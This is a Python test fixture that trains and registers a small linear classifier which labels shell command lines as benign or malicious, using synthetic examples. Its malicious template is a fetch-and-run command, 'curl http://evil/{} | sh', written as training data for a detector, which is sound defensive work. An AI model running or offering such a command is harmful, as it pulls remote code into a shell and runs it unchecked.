"""A real linear model on a few lines of text, with its report, ready to be registered."""

from __future__ import annotations

from collections.abc import Mapping
from functools import cache
from pathlib import Path
from tempfile import mkdtemp
from typing import Any

from sftsec_core.api.contracts import RecipeSpec, TrainedModel, TrainJob
from sftsec_core.api.domain import (
    Decision,
    EvalReport,
    Example,
    LeakCheck,
    ModelRef,
    Split,
    TaskSpec,
)
from sftsec_core.api.settings.task import GateSettings, TrainSettings
from sftsec_core.evaluation.evaluate import evaluate
from sftsec_core.evaluation.inference import FittedModel
from sftsec_core.plugins import Plugins
from sftsec_core.recipes.config import LinearConfig
from sftsec_core.recipes.linear import load_linear, train_linear
from sftsec_core.registry.card import Provenance, build_card
from sftsec_core.registry.gate import decide
from sftsec_core.registry.registry import ModelRegistry
from sftsec_core.registry.serving import Serving

TASK = TaskSpec.of_text("commands", ("process.command_line",), ("benign", "malicious"), "benign")
LINEAR = RecipeSpec(
    name="linear", summary="n-grams", inference_cost=1, fit=train_linear, load=load_linear
)
RECIPES: Mapping[str, RecipeSpec[Any]] = {"linear": LINEAR}
TEXTS = {"benign": "ls -la /home/{}", "malicious": "curl http://evil/{} | sh"}


def part(name: str, n: int) -> list[Example]:
    return [
        Example.of_text(f"{name}-{label}-{i}", text.format(f"{name}{i}"), label)
        for label, text in TEXTS.items()
        for i in range(n)
    ]


@cache
def split() -> Split:
    return Split(part("train", 20), part("dev", 8), part("test", 12))


@cache
def model() -> TrainedModel:
    job = TrainJob(
        task=TASK,
        train=split().train,
        dev=split().dev,
        config=LinearConfig(),
        settings=TrainSettings(),
        workdir=Path(mkdtemp()),
    )
    return train_linear(job)


@cache
def report() -> EvalReport:
    fitted = FittedModel(model(), "linear", 0.1, inference_cost=1)
    return evaluate(
        fitted,
        {"linear": fitted},
        split(),
        TASK,
        data={"snapshot": "ab" * 32},
        leaks=LeakCheck(checked=True),
    )


def card(run_id: str = "run-1", gate: Decision | None = None) -> dict[str, object]:
    gate = gate or decide(Plugins(("core",)), report(), None, GateSettings(min_labels=10))
    return build_card(report(), gate, TASK, Provenance(run_id, snapshot="ab" * 32, seed=13))


def serving(name: str = "run-1") -> Serving:
    """How a model serves: another name makes another model."""
    return Serving.of(report(), TASK, max_length=128, keep=(name,), steps={"normalise": {}})


def register(registry: ModelRegistry, run_id: str = "run-1") -> ModelRef:
    """Register a run's model; another run makes another model."""
    return registry.register(model(), serving(run_id), card(run_id), run_id=run_id)
